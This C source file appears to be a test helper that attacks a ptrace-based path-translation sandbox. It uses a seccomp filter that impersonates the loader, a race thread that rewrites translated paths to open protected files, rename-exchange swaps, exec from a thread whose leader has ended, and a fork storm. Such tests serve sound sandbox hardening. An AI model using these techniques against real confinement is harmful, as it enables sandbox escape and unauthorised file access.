// SPDX-License-Identifier: Apache-2.0
/* Attacks on path translation itself: what the kernel holds when the translator is fooled.
 *
 *   fooled filter PATH        a filter of one's own answers the loader's calls; then opens PATH
 *   fooled race PATH SECONDS  another thread writes PATH over the translated path of each open
 *   fooled swap A B SECONDS   exchanges two names all the time
 *   fooled headless           executes /helpers/fooled in a thread whose leader has ended
 *   fooled storm SECONDS      forks, kills and looks at the newest processes in /proc
 *
 * filter and race print what they read, race also "wrote" when it could open PATH for writing.
 */
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define LOADER_MARK 0x616d70686f7261ULL /* as in ptrace_backend/loader/loader.h */


static void show(int fd)
{
	char text[256];
	ssize_t n = read(fd, text, sizeof(text));

	if (n > 0 && write(1, text, (size_t)n) != n)
		_exit(1);
	close(fd);
}

/* As if each openat that has the loader's mark had opened fd 0, which is this program. */
static int filter(char **argv)
{
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 0, 3),
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args) + 8 * 5),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, (unsigned)LOADER_MARK, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 0),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog program = { sizeof(code) / sizeof(code[0]), code };
	char *again[] = { argv[0], "filtered", argv[2], NULL };

	dup2(open("/proc/self/exe", O_RDONLY), 0);
	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	if (prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program) < 0)
		return 1;
	execv(argv[0], again);
	return 1;
}

static int filtered(const char *path)
{
	struct stat status;
	int fd = (int)syscall(SYS_open, path, O_RDONLY);

	if (fd >= 0)
		show(fd);
	else if (syscall(SYS_access, path, F_OK) == 0 || lstat(path, &status) == 0)
		puts("it is there");
	return 0;
}

static char mine[4096], *place = mine;
static const char *target;
static volatile int done;

static void *overwrite(void *unused)
{
	size_t size = strlen(target) + 1;

	while (!done)
		memcpy(place, target, size);
	return unused;
}

/* Where a rewritten path lies is left in the register that held it. Without a translator the place is
 * the caller's own. */
static void find_place(void)
{
	unsigned long address = (unsigned long)strcpy(mine, "/etc/passwd"), result;

	__asm__ volatile("syscall"
			 : "=a"(result), "+D"(address)
			 : "0"((long)SYS_access), "S"(0L)
			 : "rcx", "r11", "memory");
	place = (char *)address;
	mprotect((void *)(address & ~4095UL), 4096, PROT_READ | PROT_WRITE);
}

static int race(const char *path, int seconds)
{
	struct stat before, after;
	pthread_t thread;
	time_t end;
	int fd;

	target = path;
	stat("/etc/passwd", &before);
	find_place();
	pthread_create(&thread, NULL, overwrite, NULL);
	for (end = time(NULL) + seconds; time(NULL) < end && !done;) {
		fd = (int)syscall(SYS_open, place == mine ? mine : "/etc/passwd", O_RDWR);
		if (fd < 0)
			fd = (int)syscall(SYS_open, place == mine ? mine : "/etc/passwd", O_RDONLY);
		if (fd < 0 || fstat(fd, &after) < 0)
			continue;
		if (after.st_ino != before.st_ino || after.st_dev != before.st_dev) {
			done = 1;
			if ((fcntl(fd, F_GETFL) & O_ACCMODE) == O_RDWR)
				puts("wrote");
			fflush(stdout);
			show(fd);
		}
		close(fd);
	}
	done = 1;
	pthread_join(thread, NULL);
	return 0;
}

static void look(time_t end)
{
	char path[64], text[256];
	int last = 0;

	while (time(NULL) < end) {
		FILE *file = fopen("/proc/loadavg", "r");

		if (file && fscanf(file, "%*s %*s %*s %*s %d", &last) != 1)
			last = getpid();
		if (file)
			fclose(file);
		for (int pid = last - 3; pid < last + 8; pid++) {
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			if (readlink(path, text, sizeof(text)) < 0)
				continue;
			snprintf(path, sizeof(path), "/proc/%d/root", pid);
			if (readlink(path, text, sizeof(text)) < 0)
				continue;
		}
	}
	_exit(0);
}

/* A group that forks as fast as it can, killed at a random moment. Its pipe must reach its end. */
static int round_of_storm(void)
{
	int ends[2];
	pid_t group;
	fd_set set;
	struct timeval patience = { 5, 0 };

	if (pipe(ends) < 0)
		return -1;
	group = fork();
	if (group == 0) {
		setpgid(0, 0);
		close(ends[0]);
		for (;;)
			if (fork() == 0)
				_exit(0);
			else
				waitpid(-1, NULL, WNOHANG);
	}
	setpgid(group, group);
	close(ends[1]);
	usleep(1000 + (unsigned)rand() % 5000);
	kill(-group, SIGKILL);
	waitpid(group, NULL, 0);
	FD_ZERO(&set);
	FD_SET(ends[0], &set);
	if (select(ends[0] + 1, &set, NULL, NULL, &patience) != 1)
		return -1;
	close(ends[0]);
	return 0;
}

static int storm(int seconds)
{
	time_t end = time(NULL) + seconds;

	for (int i = 0; i < 2; i++)
		if (fork() == 0)
			look(end);
	while (time(NULL) < end)
		if (round_of_storm() < 0) {
			puts("a killed process is still there");
			return 1;
		}
	puts("calm");
	return 0;
}

static int swap(const char *one, const char *other, int seconds)
{
	time_t end = time(NULL) + seconds;

	while (time(NULL) < end)
		renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE);
	return 0;
}

static void *execute(void *program)
{
	char *argv[] = { program, "headless", "again", NULL };

	usleep(50000); /* until the leader is a zombie */
	execv(program, argv);
	perror("execv");
	return NULL;
}

static int headless(char *program)
{
	pthread_t thread;

	pthread_create(&thread, NULL, execute, program);
	pthread_exit(NULL);
}

int main(int argc, char **argv)
{
	if (argc == 2 && !strcmp(argv[1], "headless"))
		return headless(argv[0]);
	if (argc == 3 && !strcmp(argv[1], "headless"))
		return puts("alive") < 0;
	if (argc == 3 && !strcmp(argv[1], "filter"))
		return filter(argv);
	if (argc == 3 && !strcmp(argv[1], "filtered"))
		return filtered(argv[2]);
	if (argc == 5 && !strcmp(argv[1], "swap"))
		return swap(argv[2], argv[3], atoi(argv[4]));
	if (argc == 4 && !strcmp(argv[1], "race"))
		return race(argv[2], atoi(argv[3]));
	if (argc == 3 && !strcmp(argv[1], "storm"))
		return storm(atoi(argv[2]));
	return 2;
}
